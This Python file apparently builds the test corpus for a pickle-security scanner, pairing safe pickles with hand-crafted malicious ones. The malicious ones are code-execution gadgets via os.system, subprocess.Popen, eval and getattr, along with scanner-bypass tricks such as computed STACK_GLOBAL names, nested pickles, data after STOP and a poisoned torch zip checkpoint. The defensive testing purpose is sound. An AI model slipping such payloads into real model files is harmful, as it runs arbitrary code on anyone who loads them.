"""A corpus of safe and malicious pickles, made here (never loaded): the scanner's test bed and the
one docs/validation.md compares picklescan and fickling on.

Each entry: (name, kind, bytes or a zip builder). ``kind`` is "safe" or "malicious". The malicious
ones cover the known bypass families: plain __reduce__ gadgets, memoised STACK_GLOBAL names,
computed STACK_GLOBAL names, nested pickles, a second pickle after STOP, the copyreg extension
registry, text-protocol pickles, allowed-looking modules with code-execution gadgets, and zip
checkpoints.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections import OrderedDict

import numpy as np


def _u(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b  # SHORT_BINUNICODE


def _tensor_pickle() -> bytes:
    """What torch.save writes for {'w': tensor} (protocol 2): _rebuild_tensor_v2 over a persistent storage."""
    return (
        b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01ctorch._utils\n_rebuild_tensor_v2\nq\x02((X\x07\x00\x00\x00storageq\x03"
        b"ctorch\nFloatStorage\nq\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x04tq\x07QK\x00K\x02K\x02\x86q\x08"
        b"K\x02K\x01\x86q\tccollections\nOrderedDict\nq\n)Rq\x0btq\x0cRq\rs."
    )


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


class _Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def corpus() -> list[tuple[str, str, bytes]]:
    evil_inner = pickle.dumps(_Reduce(os.system, ("echo pwned",)), protocol=2)
    items = [
        ("dict-p2", "safe", pickle.dumps({"a": 1, "b": [1.0, 2.0], "c": (1, "x")}, protocol=2)),
        ("dict-p5", "safe", pickle.dumps({"layers": list(range(10)), "name": "m"}, protocol=5)),
        ("ordereddict", "safe", pickle.dumps(OrderedDict(w=1, b=2), protocol=4)),
        ("numpy-array", "safe", pickle.dumps(np.arange(6, dtype=np.float32).reshape(2, 3), protocol=4)),
        ("set-frozenset", "safe", pickle.dumps({"s": {1, 2}, "f": frozenset({3})}, protocol=4)),
        ("torch-state-dict-legacy", "safe", _tensor_pickle()),
        (
            "torch-zip-checkpoint",
            "safe",
            _zip({"archive/data.pkl": _tensor_pickle(), "archive/data/0": b"\0" * 16, "archive/version": b"3\n"}),
        ),
        ("os-system-reduce", "malicious", evil_inner),
        ("builtins-eval", "malicious", pickle.dumps(_Reduce(eval, ("1+1",)), protocol=4)),
        ("subprocess-popen-p0", "malicious", b"csubprocess\nPopen\n(S'id'\ntR."),
        ("posix-system-text", "malicious", b"cos\nsystem\n(S'echo pwned'\ntR."),
        (
            "stack-global-memo",
            "malicious",
            b"\x80\x04" + _u("posix") + b"\x94" + _u("system") + b"\x94h\x00h\x01\x93" + _u("id") + b"\x85R.",
        ),
        (
            "stack-global-computed",
            "malicious",
            b"\x80\x04" + b"cbuiltins\nstr\n(" + _u("os") + b"tR" + _u("system") + b"\x93" + _u("id") + b"\x85R.",
        ),
        ("nested-pickle-loads", "malicious", pickle.dumps(_Reduce(pickle.loads, (evil_inner,)), protocol=2)),
        ("second-pickle-after-stop", "malicious", pickle.dumps({"ok": 1}, protocol=2) + evil_inner),
        ("ext-registry", "malicious", b"\x80\x02\x82\x01(S'id'\ntR."),
        (
            "numpy-testing-runstring",
            "malicious",
            b"\x80\x02cnumpy.testing._private.utils\nruntring\n(S'import os'\n}tR.".replace(b"runtring", b"runstring"),
        ),
        ("torch-hub-load", "malicious", b"\x80\x02ctorch.hub\nload\n(S'evil/repo'\nS'model'\ntR."),
        (
            "getattr-gadget",
            "malicious",
            b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'id'\ntR.",
        ),
        ("zip-checkpoint-evil", "malicious", _zip({"archive/data.pkl": evil_inner, "archive/version": b"3\n"})),
        ("unknown-module-reduce", "malicious", b"\x80\x02cmy_plugin.loader\nrun\n(S'payload'\ntR."),
    ]
    return items


def _npy_object() -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.array([{"a": 1}], dtype=object), allow_pickle=True)
    return buf.getvalue()


def write(dirpath) -> list[tuple[str, str, str]]:
    """Write the corpus under ``dirpath``; returns (name, kind, path)."""
    out = []
    for name, kind, data in corpus():
        ext = ".pt" if data[:2] == b"PK" else ".pkl"
        p = os.path.join(dirpath, name + ext)
        with open(p, "wb") as fh:
            fh.write(data)
        out.append((name, kind, p))
    p = os.path.join(dirpath, "numpy-object.npy")
    with open(p, "wb") as fh:
        fh.write(_npy_object())
    out.append(("numpy-object-npy", "safe", p))
    return out


assert struct  # struct kept for hand-built opcodes in future entries
